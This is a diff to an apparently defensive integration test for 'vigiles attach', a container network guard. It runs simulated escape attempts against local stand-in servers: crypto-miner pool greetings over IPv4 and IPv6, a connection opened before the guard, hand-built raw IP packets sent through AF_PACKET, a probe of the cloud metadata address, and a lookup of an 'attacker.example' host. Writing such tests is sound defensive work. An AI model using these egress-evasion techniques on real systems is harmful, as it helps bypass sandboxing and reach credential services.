@@ -1,8 +1,9 @@
 """Played in a network namespace of its own, as root: a container made by hand, and ``vigiles attach`` at work on it.
 
 The container: a control group, a network namespace that a veth pair joins to ours (so that without a door everything here is
-reached), a pid namespace, uid 0 without capabilities. Servers stand on 203.0.113.0/24, which is on our loopback device: an allowed host
-that answers HTTP on port 80 and anything on 443, and a pool that answers a miner's greeting. FOLDER/result.json tells.
+reached), a pid namespace, uid 0 without capabilities. Servers stand on 203.0.113.0/24, which is on our loopback device: an
+allowed host that answers HTTP on port 80 and anything on 443, and a pool that answers a miner's greeting, by IPv6 too.
+FOLDER/result.json tells.
 """
 
 from __future__ import annotations
@@ -23,7 +24,8 @@ from typing import Any
 from vigiles.cell.container import Container
 from vigiles.kernel import cgroups
 
-HOST, MIRROR, POOL = "mirror.example", "203.0.113.30", "203.0.113.20"
+HOST, MIRROR, POOL, POOL_6 = "mirror.example", "203.0.113.30", "203.0.113.20", "2001:db8:77::1"
+NEAR_MAC = "02:00:00:00:00:01"
 VIGILES = [sys.executable, "-P", "-c", "import sys; from vigiles.cli.main import main; sys.argv[0] = 'vigiles'; main()"]
 PROFILE = f"""
 extends = "rl-rollout"
@@ -68,6 +70,13 @@ sock.settimeout(1)
 sock.sendto(b"hello", ("{POOL}", 4444))
 print(sock.recv(100).decode())
 """
+METADATA = """
+import socket
+try:
+    socket.create_connection(("169.254.169.254", 80), timeout=1)
+except OSError:
+    pass
+"""
 LOOK_UP = """
 import socket
 for name in ("mirror.example", "secret.attacker.example"):
@@ -75,6 +84,38 @@ for name in ("mirror.example", "secret.attacker.example"):
         print(name, socket.gethostbyname(name))
     except OSError as error:
         print(name, type(error).__name__)
+"""
+#: A connection that is there before the door, and is made use of when the door stands.
+EARLIER = f"""
+import os, socket, sys, time
+sock = socket.create_connection(("{POOL}", 3333), timeout=4)
+print("connected", flush=True)
+if not os.fork():
+    os.close(1), os.close(2)
+    while not os.path.exists("%s/go"):
+        time.sleep(0.05)
+    sock.settimeout(2)
+    try:
+        sock.sendall({STRATUM!r})
+        said = sock.recv(200).decode() or "closed"
+    except OSError as error:
+        said = type(error).__name__
+    open("%s/said", "w").write(said)
+    os._exit(0)
+"""
+#: A datagram to the pool that passes none of the kernel's protocols.
+RAW = f"""
+import socket, struct
+near, far = socket.inet_aton("198.51.100.2"), socket.inet_aton("{POOL}")
+udp = struct.pack("!4H", 5555, 4444, 11, 0) + b"raw"
+head = struct.pack("!BBHHHBBH4s4s", 69, 0, 20 + len(udp), 1, 0, 64, 17, 0, near, far)
+total = sum(struct.unpack("!10H", head))
+total = (total & 65535) + (total >> 16)
+head = head[:10] + struct.pack("!H", ~(total + (total >> 16)) & 65535) + head[12:]
+sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+sock.bind(("eth0", 0))
+sock.send(bytes.fromhex("{NEAR_MAC}".replace(":", "")) + bytes(6) + b"\\x08\\x00" + head + udp)
+print("sent")
 """
 #: So that the address stands for the allowed host.
 FIND_MIRROR = f"import socket\nsocket.gethostbyname({HOST!r})\n"
@@ -85,7 +126,8 @@ arrived: list[str] = []
 
 def serve(address: str, port: int, answer: Callable[[bytes], bytes]) -> None:
     """Answer each connection's first words, for ever."""
-    listener = socket.create_server((address, port))
+    family = socket.AF_INET6 if ":" in address else socket.AF_INET
+    listener = socket.create_server((address, port), family=family)
 
     def one(sock: socket.socket) -> None:
         with sock, contextlib.suppress(OSError):
@@ -119,14 +161,14 @@ def echo_datagrams() -> None:
 class Made:
     """A container; ``do`` runs a Python program in it and returns what it printed."""
 
-    def __init__(self, *, own_network: bool = True, admin: bool = False) -> None:
+    def __init__(self, *, own_network: bool = True, admin: bool = False, raw: bool = False) -> None:
         hierarchies = cgroups.here()
         assert hierarchies is not None
         self.group = Path(hierarchies.unified, f"vigilestest-{os.urandom(4).hex()}")
         self.group.mkdir()
         self._errors = open(os.devnull, "wb")  # noqa: SIM115 - closed with the container
         spaces = ["unshare", *(["--net"] if own_network else []), "--pid", "--fork", "--kill-child", "--mount-proc"]
-        bare = ["setpriv", "--no-new-privs", "--bounding-set=-all", "--inh-caps=-all"]
+        bare = ["setpriv", "--no-new-privs", f"--bounding-set=-all{',+net_raw' if raw else ''}", "--inh-caps=-all"]
         self._process = subprocess.Popen(
             [*spaces, *([] if admin else bare), sys.executable, "-ISc", INIT],
             stdin=subprocess.PIPE,
@@ -161,9 +203,12 @@ class Made:
         for command in (
             [ip, "link", "add", near, "type", "veth", "peer", "name", "eth0", "netns", str(self.pid)],
             [ip, "address", "add", "198.51.100.1/24", "dev", near],
+            [ip, "address", "add", f"{POOL_6}/64", "dev", near, "nodad"],
+            [ip, "link", "set", near, "address", NEAR_MAC],
             [ip, "link", "set", near, "up"],
             [*enter, "link", "set", "lo", "up"],
             [*enter, "address", "add", "198.51.100.2/24", "dev", "eth0"],
+            [*enter, "address", "add", "2001:db8:77::2/64", "dev", "eth0", "nodad"],
             [*enter, "link", "set", "eth0", "up"],
             [*enter, "route", "add", "default", "via", "198.51.100.1"],
         ):
@@ -280,19 +325,45 @@ def behind_a_door(plays: Plays) -> dict[str, Any]:
     container = Made()
     try:
         before = container.do(MINE % (POOL, 3333))
+        before_6 = container.do(MINE % (POOL_6, 3333))
+        folder = str(plays.folder)
+        earlier = container.do(EARLIER % (folder, folder))
         with plays.attached(container, "--profile", plays.profile(TOLD)) as told:
-            told["before"] = before
+            told["before"], told["before 6"], told["earlier"] = before, before_6, earlier
             told["tables"] = container.tables()
             arrived.clear()
             told["fetched"] = container.do(FETCH)
             told["mined"] = container.do(MINE % (POOL, 3333))
             told["mined at the allowed host"] = container.do(MINE % (MIRROR, 443))
             told["datagram"] = container.do(DATAGRAM)
+            told["mined 6"] = container.do(MINE % (POOL_6, 3333))
+            (plays.folder / "go").touch()
+            wait_for((plays.folder / "said").exists)
+            time.sleep(0.1)
+            told["earlier said"] = (plays.folder / "said").read_text()
             told["looked up"] = container.do(LOOK_UP)
             told["arrived"] = list(arrived)
             time.sleep(0.6)
         told["tables after"] = container.tables()
         told["after"] = container.do(MINE % (POOL, 3333))
+    finally:
+        container.end()
+    return told
+
+
+def raw(plays: Plays) -> dict[str, Any]:
+    """Packets that the container makes by itself, before the door and behind it."""
+    container = Made(raw=True)
+    try:
+        arrived.clear()
+        before = container.do(RAW)
+        heard = wait_for(lambda: "datagram raw" in arrived)
+        with plays.attached(container, "--profile", plays.profile(TOLD)) as told:
+            told["before"], told["heard before"] = before, heard
+            arrived.clear()
+            told["sent"] = container.do(RAW)
+            time.sleep(0.5)
+            told["arrived"] = list(arrived)
     finally:
         container.end()
     return told
@@ -343,6 +414,41 @@ def struck(plays: Plays) -> dict[str, Any]:
     finally:
         container.end()
     return told
+
+
+def uncut(plays: Plays) -> dict[str, Any]:
+    """A violation that is only watched: there is nothing to cut, and it is frozen all the same."""
+    container = Made()
+    try:
+        with plays.attached(container, "--profile", plays.profile(CUTTING), "--watch-only") as told:
+            container.do(METADATA)
+            told["frozen"] = wait_for(lambda: Container.at(str(container.group)).frozen())
+            time.sleep(0.3)
+    finally:
+        container.end()
+    return told
+
+
+def doorless(plays: Plays) -> dict[str, Any]:
+    """The door is killed in the middle."""
+    container = Made()
+    try:
+        with plays.attached(container, "--profile", plays.profile(TOLD)) as told:
+            (door,) = [pid for pid in children(told["process"].pid) if b"door_alone" in cmdline(pid)]
+            os.kill(door, 9)
+            told["signal"] = 0
+        told["after"] = container.do(MINE % (POOL, 3333))
+    finally:
+        container.end()
+    return told
+
+
+def children(pid: int) -> list[int]:
+    return [int(word) for word in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
+
+
+def cmdline(pid: int) -> bytes:
+    return Path(f"/proc/{pid}/cmdline").read_bytes()
 
 
 def stopped(plays: Plays) -> dict[str, Any]:
@@ -403,10 +509,13 @@ def wait_for(what: Callable[[], bool], seconds: float = 15) -> bool:
 def main(folder: Path, *names: str) -> None:
     serve(MIRROR, 80, lambda _: b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\ndata")
     serve(MIRROR, 443, lambda _: b'{"id":1,"result":[[],"00",4],"error":null}\n')
+    serve("::", 3333, lambda _: b'{"id":1,"result":[[],"00",4],"error":null}\n')
     serve(POOL, 3333, lambda _: b'{"id":1,"result":[[],"00",4],"error":null}\n')
     echo_datagrams()
     plays = Plays(folder)
-    scenes = {scene.__name__: scene for scene in (watched, behind_a_door, killed, struck, stopped, refused)}
+    scenes = {
+        scene.__name__: scene for scene in (watched, behind_a_door, raw, killed, struck, uncut, doorless, stopped, refused)
+    }
     told = {name: scenes[name](plays) for name in names or scenes}
     locks = Path("/run/vigiles/attached")
     told["locks"] = [path.name for path in locks.iterdir()] if locks.exists() else []
